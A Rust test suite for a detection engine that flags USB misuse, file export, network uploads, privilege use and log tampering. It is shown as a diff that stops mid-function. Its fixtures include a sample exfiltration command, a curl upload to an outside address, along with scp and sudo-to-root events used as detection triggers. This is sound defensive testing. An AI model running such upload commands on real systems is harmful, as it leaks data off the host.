@@ -1,0 +1,802 @@
+//! The built-in indicator pack, one test per indicator: the facts that fire it and a
+//! near miss that must not. Agent events are written as JSON and parsed as the
+//! documented `Envelope` (unknown fields refused), so a test cannot drift from the
+//! schema; network and access events are synthetic until their sources land.
+//! Plus the engine itself: correlation, suppression, reload, errors.
+
+use serde_json::{json, Value as Json};
+use weilan_config::event::Envelope;
+
+use super::engine::{Engine, Fact, Finding};
+use super::findings;
+use crate::store::{Alert, Store};
+
+/// Monday 2026-11-23 10:00 in Shanghai (inside the default working hours).
+const DAY: &str = "2026-11-23T02:00:00Z";
+/// Monday 2026-11-23 22:00 in Shanghai (outside).
+const NIGHT: &str = "2026-11-23T14:00:00Z";
+
+const GROUPS: &str = r#"
+[user_groups]
+it = ["alice"]
+admins = ["root", "alice"]
+[lists]
+allowed_destinations = ["10.0.0.0/8"]
+"#;
+
+struct Harness {
+    _dir: tempfile::TempDir,
+    store: Store,
+    engine: Engine,
+    policy: weilan_config::policy::Policy,
+    seq: u64,
+}
+
+impl Harness {
+    fn new() -> Harness {
+        Self::with_rules(GROUPS)
+    }
+
+    fn with_rules(extra: &str) -> Harness {
+        let dir = tempfile::tempdir().unwrap();
+        let rules = dir.path().join("rules");
+        std::fs::create_dir(&rules).unwrap();
+        std::fs::write(rules.join("site.toml"), extra).unwrap();
+        let engine = Engine::new(true, Some(rules))
+            .unwrap_or_else(|e| panic!("{}", e.iter().map(|e| e.to_string()).collect::<String>()));
+        let policy = weilan_config::load::load_str::<weilan_config::policy::PolicyFile>(
+            weilan_config::examples::POLICY_TOML,
+            std::path::Path::new("policy.toml"),
+            dir.path().to_path_buf(),
+        )
+        .unwrap();
+        Harness {
+            store: Store::open(&dir.path().join("db.sqlite")).unwrap(),
+            _dir: dir,
+            engine,
+            policy,
+            seq: 0,
+        }
+    }
+
+    /// An agent event of the documented schema.
+    fn event(&mut self, agent: &str, role: &str, at: &str, kind: &str, data: Json) -> Fact {
+        self.seq += 1;
+        let env: Envelope = serde_json::from_value(json!({
+            "schema": weilan_config::event::SCHEMA_VERSION,
+            "event_id": format!("{agent}:1:{}", self.seq),
+            "time": at,
+            "host_role": role,
+            "prev_hash": weilan_config::event::GENESIS_HASH,
+            "event": {"kind": kind, "data": data},
+        }))
+        .unwrap_or_else(|e| panic!("{kind} does not match the schema: {e}"));
+        Fact::from_envelope(&env)
+    }
+
+    /// Stores the events (for lookups such as the device's last decision) and
+    /// evaluates the facts at `now`; returns the alerts raised.
+    fn feed(&mut self, now: &str, facts: Vec<Fact>) -> Vec<Alert> {
+        let now: jiff::Timestamp = now.parse().unwrap();
+        let (engine, policy) = (&mut self.engine, &self.policy);
+        self.store
+            .in_transaction(|tx| {
+                for f in &facts {
+                    if let Some(id) = &f.event_id {
+                        tx.execute(
+                            "INSERT INTO events (event_id, agent_id, epoch, seq, kind, agent_time, received_at, host_role, envelope)
+                             VALUES (?1, ?2, 1, ?3, ?4, ?5, ?5, ?6, ?7)",
+                            rusqlite::params![
+                                id,
+                                f.agent_id,
+                                id.rsplit(':').next().unwrap().parse::<i64>().unwrap(),
+                                f.kind,
+                                f.time.to_string(),
+                                f.host_role,
+                                json!({"event": {"kind": f.kind, "data": f.data}}).to_string()
+                            ],
+                        )?;
+                    }
+                }
+                engine.evaluate(tx, policy, &facts, now)
+            })
+            .unwrap()
+            .alerts
+    }
+
+    fn fired(&mut self, now: &str, facts: Vec<Fact>, rule: &str) -> Option<Alert> {
+        let errors = self.engine.stats.errors;
+        let alerts = self.feed(now, facts);
+        assert_eq!(self.engine.stats.errors, errors, "evaluation errors");
+        alerts.into_iter().find(|a| a.rule_id == rule)
+    }
+}
+
+fn finding(kind: &'static str, details: Json) -> Fact {
+    Fact::from_finding(
+        &Finding {
+            kind,
+            agent_id: "ws-1".into(),
+            summary: format!("{kind} happened"),
+            event_ids: vec!["ws-1:1:7".into()],
+            details,
+        },
+        DAY.parse().unwrap(),
+    )
+}
+
+fn merge(mut base: Json, over: Json) -> Json {
+    if let (Some(b), Json::Object(o)) = (base.as_object_mut(), over) {
+        b.extend(o);
+    }
+    base
+}
+
+fn usb(over: Json) -> Json {
+    merge(
+        json!({
+            "port_path": "1-1", "busnum": 1, "devnum": 5, "vid": "abcd", "pid": "1234",
+            "bcd_device": "0100", "serial": "S-1", "manufacturer": "Acme", "product": "Stick",
+            "device_class": 0,
+            "interfaces": [{"number": 0, "class": 8, "subclass": 6, "protocol": 80}],
+            "speed": "480", "authorized": false, "hash": "h1", "parent_hash": null,
+            "block_devices": [], "present_at_start": false,
+        }),
+        over,
+    )
+}
+
+fn decision(over: Json) -> Json {
+    merge(
+        json!({
+            "port_path": "1-1", "vid": "abcd", "pid": "1234", "serial": "S-1",
+            "manufacturer": "Acme", "product": "Stick", "hash": "h1", "target": "block",
+            "rule_id": "implicit default", "reason": "not allowed", "trigger": "attach",
+            "mode": "enforce", "actions": [], "enforced": true, "error": null,
+            "policy_version": "v1",
+        }),
+        over,
+    )
+}
+
+fn exported(over: Json) -> Json {
+    merge(
+        json!({
+            "path": "/media/s/a.txt", "mount_point": "/media/s", "fs_type": "vfat",
+            "mount_source": "/dev/sdb1", "usb_serial": "S-1", "usb_hash": "h1", "size": 1000,
+            "sha256": "00", "hashed_bytes": 1000, "pid": 42, "exe": "/usr/bin/cp",
+            "cmdline": "cp a /media/s", "uid": 1000, "user": "bob",
+            "first_write": DAY, "last_write": DAY, "attribution": "fanotify",
+            "classification": [], "classification_note": null, "exit": "removable",
+            "action": "audit", "rule_id": "files.default", "origins": [],
+        }),
+        over,
+    )
+}
+
+fn enforced(over: Json) -> Json {
+    merge(
+        json!({
+            "action": "deny", "rule_id": "no-secrets-out", "matched": ["cn_id"],
+            "path": "/media/s/x", "source_path": "/srv/secret/x", "sha256": null,
+            "mount_point": "/media/s", "usb_hash": "h1", "pid": 42, "exe": "/usr/bin/cp",
+            "user": "bob", "outcome": "done", "error": null, "evidence": null, "detail": "refused",
+        }),
+        over,
+    )
+}
+
+fn transfer(over: Json) -> Json {
+    merge(
+        json!({
+            "pid": 77, "exe": "/usr/bin/curl", "cmdline": "curl -T x http://203.0.113.9/",
+            "uid": 1000, "user": "bob", "protocol": "tcp", "local_addr": "192.0.2.10",
+            "local_port": 40000, "remote_addr": "203.0.113.9", "remote_port": 80,
+            "remote_host": null, "bytes_sent": 5_000_000, "bytes_received": 300,
+            "duration_ms": 900, "phase": "closed", "allowlisted": false,
+            "sensitive_files": [], "action": "audit", "rule_id": "net.default",
+        }),
+        over,
+    )
+}
+
+/// One indicator: facts that fire it, and a near miss that must not.
+macro_rules! indicator {
+    ($name:ident, $rule:expr, |$h:ident| fire: $fire:expr, near: $near:expr $(,)?) => {
+        mod $name {
+            use super::*;
+
+            #[test]
+            fn fires() {
+                let mut $h = Harness::new();
+                let (now, facts): (&str, Vec<Fact>) = $fire;
+                let a = $h.fired(now, facts, $rule);
+                let a = a.unwrap_or_else(|| panic!("{} did not fire", $rule));
+                assert!(
+                    !a.summary.contains("(?)"),
+                    "summary with a failed placeholder: {}",
+                    a.summary
+                );
+                assert!(!a.title.is_empty() && !a.tags.is_empty(), "{a:?}");
+            }
+
+            #[test]
+            fn near_miss_does_not_fire() {
+                let mut $h = Harness::new();
+                let (now, facts): (&str, Vec<Fact>) = $near;
+                assert_eq!($h.fired(now, facts, $rule), None);
+            }
+        }
+    };
+}
+
+indicator!(unknown_usb_storage, "builtin.usb.unknown-storage", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "usb.attached", usb(json!({})))]),
+    // The policy's known finance stick.
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "usb.attached",
+        usb(json!({"vid": "0781", "pid": "5581", "serial": "4C530001230915115093"})))]),
+);
+
+indicator!(badusb_composite, "builtin.usb.badusb-composite", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "usb.attached", usb(json!({"interfaces": [
+        {"number": 0, "class": 3, "subclass": 1, "protocol": 1},
+        {"number": 1, "class": 8, "subclass": 6, "protocol": 80}]})))]),
+    // Keyboard plus mouse: HID twice is an ordinary combo.
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "usb.attached", usb(json!({"interfaces": [
+        {"number": 0, "class": 3, "subclass": 1, "protocol": 1},
+        {"number": 1, "class": 3, "subclass": 1, "protocol": 2}]})))]),
+);
+
+indicator!(usb_outside_hours, "builtin.usb.outside-hours", |h|
+    fire: (NIGHT, vec![h.event("ws-1", "workstation", NIGHT, "usb.attached", usb(json!({})))]),
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "usb.attached", usb(json!({})))]),
+);
+
+indicator!(blocked_device_retried, "builtin.usb.blocked-retried", |h|
+    fire: (DAY, (0..3).map(|_| h.event("ws-1", "workstation", DAY, "usb.decision", decision(json!({})))).collect()),
+    near: (DAY, {
+        // Two blocks, and a third for another device.
+        let mut v: Vec<Fact> = (0..2).map(|_| h.event("ws-1", "workstation", DAY, "usb.decision", decision(json!({})))).collect();
+        v.push(h.event("ws-1", "workstation", DAY, "usb.decision", decision(json!({"hash": "h2"}))));
+        v
+    }),
+);
+
+indicator!(usb_enforcement_failed, "builtin.usb.enforcement-failed", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "usb.decision", decision(json!({"enforced": false, "error": "EPERM writing authorized"})))]),
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "usb.decision", decision(json!({})))]),
+);
+
+indicator!(temporary_unlock_used, "builtin.usb.unlock-used", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "usb.decision", decision(json!({"target": "allow", "rule_id": "unlock:ab12"})))]),
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "usb.decision", decision(json!({"target": "allow", "rule_id": "finance-sticks"})))]),
+);
+
+indicator!(usb_on_server_room_host, "builtin.usb.server-room", |h|
+    fire: (DAY, vec![h.event("srv-1", "server-room", DAY, "usb.attached", usb(json!({})))]),
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "usb.attached", usb(json!({})))]),
+);
+
+indicator!(classified_file_exported, "builtin.files.classified-export", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "file.exported", exported(json!({
+        "classification": [{"detector": "cn_id", "count": 3, "samples": ["1101**********1234"]}]})))]),
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "file.exported", exported(json!({})))]),
+);
+
+indicator!(mass_export_by_count, "builtin.files.mass-export-count", |h|
+    fire: (DAY, (0..51).map(|_| h.event("ws-1", "workstation", DAY, "file.exported", exported(json!({})))).collect()),
+    near: (DAY, {
+        // 50 in the window; an older 51st fell out of it.
+        let mut v = vec![h.event("ws-1", "workstation", "2026-11-23T01:49:00Z", "file.exported", exported(json!({})))];
+        v.extend((0..50).map(|_| h.event("ws-1", "workstation", DAY, "file.exported", exported(json!({})))));
+        v
+    }),
+);
+
+indicator!(mass_export_by_volume, "builtin.files.mass-export-volume", |h|
+    fire: (DAY, (0..5).map(|_| h.event("ws-1", "workstation", DAY, "file.exported", exported(json!({"size": 104_857_600})))).collect()),
+    // 5 × 100 MiB, but one went to a network share.
+    near: (DAY, (0..5).map(|i| h.event("ws-1", "workstation", DAY, "file.exported",
+        exported(json!({"size": 104_857_600, "exit": if i == 0 { "network" } else { "removable" }})))).collect()),
+);
+
+indicator!(export_to_network_share, "builtin.files.network-share-export", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "file.exported", exported(json!({
+        "exit": "network", "fs_type": "cifs", "mount_source": "//nas/share", "usb_serial": null, "usb_hash": null})))]),
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "file.exported", exported(json!({})))]),
+);
+
+indicator!(read_only_device_written, "builtin.files.readonly-device-written", |h|
+    fire: (DAY, vec![
+        h.event("ws-1", "workstation", "2026-11-23T01:59:00Z", "usb.decision", decision(json!({"target": "read-only"}))),
+        h.event("ws-1", "workstation", DAY, "file.exported", exported(json!({}))),
+    ]),
+    // The device was read-only once, then allowed again before the write.
+    near: (DAY, vec![
+        h.event("ws-1", "workstation", "2026-11-23T01:58:00Z", "usb.decision", decision(json!({"target": "read-only"}))),
+        h.event("ws-1", "workstation", "2026-11-23T01:59:00Z", "usb.decision", decision(json!({"target": "allow"}))),
+        h.event("ws-1", "workstation", DAY, "file.exported", exported(json!({}))),
+    ]),
+);
+
+indicator!(file_enforcement_failed, "builtin.files.enforcement-failed", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "file.enforced", enforced(json!({"action": "quarantine", "outcome": "failed", "error": "EBUSY"})))]),
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "file.enforced", enforced(json!({"action": "quarantine"})))]),
+);
+
+indicator!(refused_copies_retried, "builtin.files.deny-retried", |h|
+    fire: (DAY, (0..3).map(|_| h.event("ws-1", "workstation", DAY, "file.enforced", enforced(json!({})))).collect()),
+    // Three refusals, but for two different users.
+    near: (DAY, (0..3).map(|i| h.event("ws-1", "workstation", DAY, "file.enforced", enforced(json!({"user": if i == 0 { "carol" } else { "bob" }})))).collect()),
+);
+
+indicator!(upload_not_allowlisted, "builtin.net.upload-not-allowlisted", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "net.transfer", transfer(json!({})))]),
+    // The same upload to an address in lists.allowed_destinations.
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "net.transfer", transfer(json!({"remote_addr": "10.20.0.5"})))]),
+);
+
+indicator!(large_outbound_volume, "builtin.net.large-outbound", |h|
+    fire: (DAY, (0..2).map(|_| h.event("ws-1", "workstation", DAY, "net.transfer", transfer(json!({"bytes_sent": 600_000_000})))).collect()),
+    // Same volume, but one report is the threshold crossing of a transfer still open.
+    near: (DAY, (0..2).map(|i| h.event("ws-1", "workstation", DAY, "net.transfer",
+        transfer(json!({"bytes_sent": 600_000_000, "phase": if i == 0 { "threshold" } else { "closed" }})))).collect()),
+);
+
+indicator!(first_seen_destination, "builtin.net.first-seen-destination", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "net.transfer", transfer(json!({})))]),
+    near: (DAY, {
+        // Seen 29 days ago already: feed that first, then the transfer of today.
+        let old = h.event("ws-1", "workstation", "2026-10-25T02:00:00Z", "net.transfer", transfer(json!({})));
+        h.feed("2026-10-25T02:00:00Z", vec![old]);
+        vec![h.event("ws-1", "workstation", DAY, "net.transfer", transfer(json!({})))]
+    }),
+);
+
+indicator!(transfer_tool_by_non_it_user, "builtin.net.transfer-tool-non-it", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "net.transfer_tool", json!({
+        "pid": 9, "tool": "scp", "exe": "/usr/bin/scp", "args": ["scp", "x", "e:/tmp"], "uid": 1000, "user": "bob"}))]),
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "net.transfer_tool", json!({
+        "pid": 9, "tool": "scp", "exe": "/usr/bin/scp", "args": ["scp", "x", "e:/tmp"], "uid": 1001, "user": "alice"}))]),
+);
+
+fn login(user: &str) -> Json {
+    json!({"user": user, "uid": 1000, "method": "ssh", "tty": "pts/0",
+        "remote_addr": "192.0.2.7", "session_id": "12", "source": "journal"})
+}
+
+indicator!(server_room_login_outside_hours, "builtin.access.login-outside-hours-server-room", |h|
+    fire: (NIGHT, vec![h.event("srv-1", "server-room", NIGHT, "access.login", login("bob"))]),
+    // A workstation login at night is not this indicator.
+    near: (NIGHT, vec![h.event("ws-1", "workstation", NIGHT, "access.login", login("bob"))]),
+);
+
+indicator!(root_by_non_admin, "builtin.access.privilege-non-admin", |h|
+    fire: (DAY, vec![h.event("srv-1", "server-room", DAY, "access.privilege", json!({
+        "user": "bob", "target_user": "root", "tool": "sudo", "command": "/bin/bash", "success": true, "tty": "pts/0", "source": "journal"}))]),
+    near: (DAY, vec![h.event("srv-1", "server-room", DAY, "access.privilege", json!({
+        "user": "alice", "target_user": "root", "tool": "sudo", "command": "/bin/bash", "success": true, "tty": "pts/0", "source": "journal"}))]),
+);
+
+fn failed_login() -> Json {
+    json!({"user": "root", "method": "ssh", "remote_addr": "192.0.2.66", "reason": "bad password", "source": "journal"})
+}
+
+indicator!(failed_login_burst, "builtin.access.failed-login-burst", |h|
+    fire: (DAY, (0..5).map(|_| h.event("srv-1", "server-room", DAY, "access.login_failed", failed_login())).collect()),
+    // Five failures spread over more than five minutes.
+    near: (DAY, ["01:54", "01:56", "01:58", "02:00"].iter().chain(["01:50"].iter())
+        .map(|t| h.event("srv-1", "server-room", &format!("2026-11-23T{t}:00Z"), "access.login_failed", failed_login())).collect()),
+);
+
+indicator!(agent_silent, "builtin.fleet.agent-silent", |_h|
+    fire: (DAY, vec![finding(findings::AGENT_SILENT, json!({"last_event": DAY, "state": "offline"}))]),
+    near: (DAY, vec![finding(findings::JOURNAL_RESET, json!({"epoch": 2}))]),
+);
+
+indicator!(agent_stopped, "builtin.fleet.agent-stopped", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "agent.stopping", json!({"reason": "signal"}))]),
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "agent.heartbeat", json!({
+        "agent_version": "0.1.0", "uptime_secs": 60, "policy_version": "v1", "backlog": 0, "dropped_total": 0}))]),
+);
+
+indicator!(journal_gap, "builtin.integrity.journal-gap", |_h|
+    fire: (DAY, vec![finding(findings::JOURNAL_GAP, json!({"epoch": 1, "first_missing": 5, "last_missing": 9, "explained": false}))]),
+    // A gap the agent reported losing is the yellow sibling, not this red one.
+    near: (DAY, vec![finding(findings::JOURNAL_GAP, json!({"epoch": 1, "first_missing": 5, "last_missing": 9, "explained": true}))]),
+);
+
+indicator!(journal_gap_reported, "builtin.integrity.journal-gap-reported", |_h|
+    fire: (DAY, vec![finding(findings::JOURNAL_GAP, json!({"epoch": 1, "first_missing": 5, "last_missing": 9, "explained": true}))]),
+    near: (DAY, vec![finding(findings::JOURNAL_GAP, json!({"epoch": 1, "first_missing": 5, "last_missing": 9, "explained": false}))]),
+);
+
+indicator!(chain_break, "builtin.integrity.chain-break", |_h|
+    fire: (DAY, vec![finding(findings::CHAIN_BREAK, json!({"expected": "aa", "found": "bb"}))]),
+    near: (DAY, vec![finding(findings::BAD_SIGNATURE, json!({"reason": "x"}))]),
+);
+
+indicator!(bad_signature, "builtin.integrity.bad-signature", |_h|
+    fire: (DAY, vec![finding(findings::BAD_SIGNATURE, json!({"reason": "signature", "payload_sha256": "00"}))]),
+    near: (DAY, vec![finding(findings::CHAIN_BREAK, json!({}))]),
+);
+
+indicator!(journal_reset, "builtin.integrity.journal-reset", |_h|
+    fire: (DAY, vec![finding(findings::JOURNAL_RESET, json!({"previous_epoch": 1, "epoch": 2}))]),
+    near: (DAY, vec![finding(findings::AGENT_SILENT, json!({}))]),
+);
+
+indicator!(events_lost, "builtin.agent.events-lost", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "agent.events_lost", json!({
+        "count": 12, "stage": "queue", "reason": "source queue full", "first": null, "last": null}))]),
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "agent.heartbeat", json!({
+        "agent_version": "0.1.0", "uptime_secs": 60, "policy_version": "v1", "backlog": 0, "dropped_total": 0}))]),
+);
+
+fn heartbeat(backlog: u64) -> Json {
+    json!({"agent_version": "0.1.0", "uptime_secs": 60, "policy_version": "v1", "backlog": backlog, "dropped_total": 0})
+}
+
+indicator!(clock_skew, "builtin.agent.clock-skew", |h|
+    // Received 6 minutes after the agent says it was sent, with nothing queued.
+    fire: ("2026-11-23T02:06:00Z", vec![h.event("ws-1", "workstation", DAY, "agent.heartbeat", heartbeat(0))]),
+    // Same delay, but the agent had a backlog: a late delivery, not a wrong clock.
+    near: ("2026-11-23T02:06:00Z", vec![h.event("ws-1", "workstation", DAY, "agent.heartbeat", heartbeat(250))]),
+);
+
+indicator!(policy_rejected, "builtin.policy.rejected", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "policy.rejected", json!({
+        "version": "v2", "source": "collector", "errors": ["policy.toml:3:1: usb.rules[0].target: bad"], "kept": "v1"}))]),
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "policy.applied", json!({"version": "v2", "previous": "v1", "source": "collector"}))]),
+);
+
+indicator!(command_rejected, "builtin.command.rejected", |h|
+    fire: (DAY, vec![h.event("ws-1", "workstation", DAY, "command.result", json!({
+        "seq": 9, "action": "block-device", "status": "rejected", "detail": "replayed: sequence 9 is not above 12"}))]),
+    near: (DAY, vec![h.event("ws-1", "workstation", DAY, "command.result", json!({
+        "seq": 13, "action": "block-device", "status": "executed", "detail": "device h1 blocked"}))]),
+);
+
+indicator!(policy_invalid_on_collector, "builtin.collector.policy-invalid", |_h|
+    fire: (DAY, vec![finding(findings::POLICY_INVALID, json!({"errors": "policy.toml:1:1: x"}))]),
+    near: (DAY, vec![finding(findings::RULES_INVALID, json!({}))]),
+);
+
+indicator!(rules_invalid, "builtin.collector.rules-invalid", |_h|
+    fire: (DAY, vec![finding(findings::RULES_INVALID, json!({"errors": ["site.toml:3:1: x"]}))]),
+    near: (DAY, vec![finding(findings::POLICY_INVALID, json!({}))]),
+);
+
+indicator!(sink_failures, "builtin.collector.sink-failures", |_h|
+    fire: (DAY, vec![finding(findings::SINK_FAILURES, json!({"siem": {"failed": 1, "dropped": 0, "new": 1}}))]),
+    near: (DAY, vec![finding(findings::RULES_OVERFLOW, json!({}))]),
+);
+
+indicator!(rules_overflow, "builtin.collector.rules-overflow", |_h|
+    fire: (DAY, vec![finding(findings::RULES_OVERFLOW, json!({"evicted": 3, "total": 3}))]),
+    near: (DAY, vec![finding(findings::SINK_FAILURES, json!({}))]),
+);
+
+/// Every rule of the pack has its pair of tests above (kept in step by this list).
+#[test]
+fn every_builtin_rule_is_tested() {
+    let tested = [
+        "builtin.usb.unknown-storage",
+        "builtin.usb.badusb-composite",
+        "builtin.usb.outside-hours",
+        "builtin.usb.blocked-retried",
+        "builtin.usb.enforcement-failed",
+        "builtin.usb.unlock-used",
+        "builtin.usb.server-room",
+        "builtin.files.classified-export",
+        "builtin.files.mass-export-count",
+        "builtin.files.mass-export-volume",
+        "builtin.files.network-share-export",
+        "builtin.files.readonly-device-written",
+        "builtin.files.enforcement-failed",
+        "builtin.files.deny-retried",
+        "builtin.net.upload-not-allowlisted",
+        "builtin.net.large-outbound",
+        "builtin.net.first-seen-destination",
+        "builtin.net.transfer-tool-non-it",
+        "builtin.access.login-outside-hours-server-room",
+        "builtin.access.privilege-non-admin",
+        "builtin.access.failed-login-burst",
+        "builtin.fleet.agent-silent",
+        "builtin.fleet.agent-stopped",
+        "builtin.integrity.journal-gap",
+        "builtin.integrity.journal-gap-reported",
+        "builtin.integrity.chain-break",
+        "builtin.integrity.bad-signature",
+        "builtin.integrity.journal-reset",
+        "builtin.agent.events-lost",
+        "builtin.agent.clock-skew",
+        "builtin.policy.rejected",
+        "builtin.command.rejected",
+        "builtin.collector.policy-invalid",
+        "builtin.collector.rules-invalid",
+        "builtin.collector.sink-failures",
+        "builtin.collector.rules-overflow",
+    ];
+    let h = Harness::new();
+    let set = h.engine.rule_set();
+    let mut ids: Vec<&str> = set.rules().map(|r| r.id.as_str()).collect();
+    ids.sort();
+    let mut want = tested.to_vec();
+    want.sort();
+    assert_eq!(ids, want);
+    assert!(ids.len() >= 28);
+}
+
+#[test]
+fn repeats_within_the_suppression_window_update_one_alert() {
+    let mut h = Harness::new();
+    let mut facts = Vec::new();
+    for _ in 0..20 {
+        facts.push(h.event("ws-1", "workstation", DAY, "usb.attached", usb(json!({}))));
+    }
+    let alerts = h.feed(DAY, facts);
+    let unknown: Vec<_> = alerts
+        .iter()
+        .filter(|a| a.rule_id == "builtin.usb.unknown-storage")
+        .collect();
+    assert_eq!(unknown.len(), 1, "one alert, not 20");
+    let updates = h.engine.take_updates();
+    let u = updates
+        .iter()
+        .find(|a| a.rule_id == "builtin.usb.unknown-storage")
+        .unwrap();
+    assert_eq!(
+        (u.alert_id, u.count, u.update),
+        (unknown[0].alert_id, 20, true)
+    );
+    assert_eq!(u.event_ids.len(), 20);
+    let stored: i64 = h
+        .store
+        .conn()
+        .query_row(
+            "SELECT count FROM alerts WHERE alert_id = ?1",
+            [u.alert_id],
+            |r| r.get(0),
+        )
+        .unwrap();
+    assert_eq!(stored, 20);
+    // Another device is another key: its own alert.
+    let other = h.event(
+        "ws-1",
+        "workstation",
+        DAY,
+        "usb.attached",
+        usb(json!({"hash": "h2"})),
+    );
+    assert!(h
+        .fired(DAY, vec![other], "builtin.usb.unknown-storage")
+        .is_some());
+    // After the window (10 min) the same device alerts again.
+    let later = h.event(
+        "ws-1",
+        "workstation",
+        "2026-11-23T02:11:00Z",
+        "usb.attached",
+        usb(json!({})),
+    );
+    assert!(h
+        .fired(
+            "2026-11-23T02:11:00Z",
+            vec![later],
+            "builtin.usb.unknown-storage"
+        )
+        .is_some());
+}
+
+#[test]
+fn an_alert_names_its_rule_level_events_and_the_correlated_count() {
+    let mut h = Harness::new();
+    let facts: Vec<Fact> = (0..3)
+        .map(|_| {
+            h.event(
+                "ws-1",
+                "workstation",
+                DAY,
+                "usb.decision",
+                decision(json!({})),
+            )
+        })
+        .collect();
+    let ids: Vec<String> = facts.iter().map(|f| f.event_id.clone().unwrap()).collect();
+    let a = h.fired(DAY, facts, "builtin.usb.blocked-retried").unwrap();
+    assert_eq!(a.level, super::Level::Red);
+    assert_eq!(a.event_ids, ids);
+    assert_eq!(a.key, "ws-1/h1");
+    assert_eq!(a.details["aggregate"]["value"], 3.0);
+    assert!(
+        a.summary
+            .starts_with("USB abcd:1234 serial S-1 blocked again on ws-1"),
+        "{}",
+        a.summary
+    );
+}
+
+#[test]
+fn rule_files_report_file_line_and_the_cel_error() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("site.toml");
+    std::fs::write(
+        &path,
+        "[[rule]]\nid = \"site.a\"\ntitle = \"A\"\nlevel = \"red\"\non = [\"usb.attached\"]\ncondition = \"event.data.vid ==\"\nsummary = \"x\"\n\n[[rule]]\nid = \"site.b\"\ntitle = \"B\"\nlevel = \"purple\"\non = [\"usb.attached\"]\ncondition = \"evnt.kind == 'x'\"\nsummary = \"{event.data.vid\"\n",
+    )
+    .unwrap();
+    let errors = super::RuleSet::load(false, Some(dir.path())).unwrap_err();
+    let text = errors.iter().map(|e| e.to_string()).collect::<String>();
+    for want in [
+        "site.toml:6:",
+        "rule[0].condition: CEL:",
+        "site.toml:12:",
+        "`purple` is not red, yellow or blue",
+        "site.toml:14:",
+        "unknown variable `evnt`",
+        "site.toml:15:",
+        "never closed",
+    ] {
+        assert!(text.contains(want), "missing `{want}` in:\n{text}");
+    }
+}
+
+#[test]
+fn a_broken_rule_file_leaves_the_previous_rules_active() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("rules");
+    std::fs::create_dir(&rules).unwrap();
+    let good = "[[rule]]\nid = \"site.vid\"\ntitle = \"Vendor abcd\"\nlevel = \"blue\"\non = [\"usb.attached\"]\ncondition = \"event.data.vid == 'abcd'\"\nsummary = \"abcd on {agent.id}\"\n";
+    std::fs::write(rules.join("site.toml"), good).unwrap();
+    let mut engine = Engine::new(false, Some(rules.clone())).unwrap();
+    assert_eq!(engine.rule_set().rules().count(), 1);
+    // Broken: the reload is refused with file:line, and the old rule stays.
+    std::thread::sleep(std::time::Duration::from_millis(20));
+    std::fs::write(
+        rules.join("site.toml"),
+        good.replace("== 'abcd'", "== 'abcd' &&"),
+    )
+    .unwrap();
+    let refused = engine
+        .reload_if_changed()
+        .expect("a finding for the refused file");
+    assert_eq!(refused.kind, findings::RULES_INVALID);
+    assert!(
+        refused.summary.contains("site.toml:6:"),
+        "{}",
+        refused.summary
+    );
+    assert_eq!(
+        engine
+            .rule_set()
+            .get("site.vid")
+            .unwrap()
+            .condition
+            .as_ref()
+            .unwrap()
+            .text,
+        "event.data.vid == 'abcd'"
+    );
+    assert_eq!(
+        engine.reload_if_changed().map(|f| f.summary),
+        None,
+        "unchanged: not reported twice"
+    );
+    // Fixed: the new rule replaces it.
+    std::fs::write(rules.join("site.toml"), good.replace("'abcd'", "'ef01'")).unwrap();
+    assert!(engine.reload_if_changed().is_none());
+    assert_eq!(
+        engine
+            .rule_set()
+            .get("site.vid")
+            .unwrap()
+            .condition
+            .as_ref()
+            .unwrap()
+            .text,
+        "event.data.vid == 'ef01'"
+    );
+    assert_eq!(engine.stats.reloads, 1);
+    assert_eq!(engine.stats.reload_failures, 1);
+}
+
+#[test]
+fn the_directory_replaces_or_switches_off_builtin_rules_by_id() {
+    let mut h = Harness::with_rules(
+        "[[rule]]\nid = \"builtin.usb.unknown-storage\"\ntitle = \"x\"\nlevel = \"red\"\non = [\"usb.attached\"]\nsummary = \"x\"\nenabled = false\n\n\
+         [[rule]]\nid = \"builtin.usb.server-room\"\ntitle = \"Any USB on servers\"\nlevel = \"yellow\"\ntags = [\"site\"]\non = [\"usb.attached\"]\ncondition = \"agent.role == 'server-room'\"\nsummary = \"USB on {agent.id}\"\n",
+    );
+    assert!(h
+        .engine
+        .rule_set()
+        .get("builtin.usb.unknown-storage")
+        .is_none());
+    let f = h.event(
+        "srv-1",
+        "server-room",
+        DAY,
+        "usb.attached",
+        usb(json!({"interfaces": []})),
+    );
+    let a = h.fired(DAY, vec![f], "builtin.usb.server-room").unwrap();
+    assert_eq!(
+        (a.level, a.summary.as_str()),
+        (super::Level::Yellow, "USB on srv-1")
+    );
+}
+
+#[test]
+fn rules_send_commands_to_the_agent_whose_event_fired_them() {
+    let mut h = Harness::with_rules(
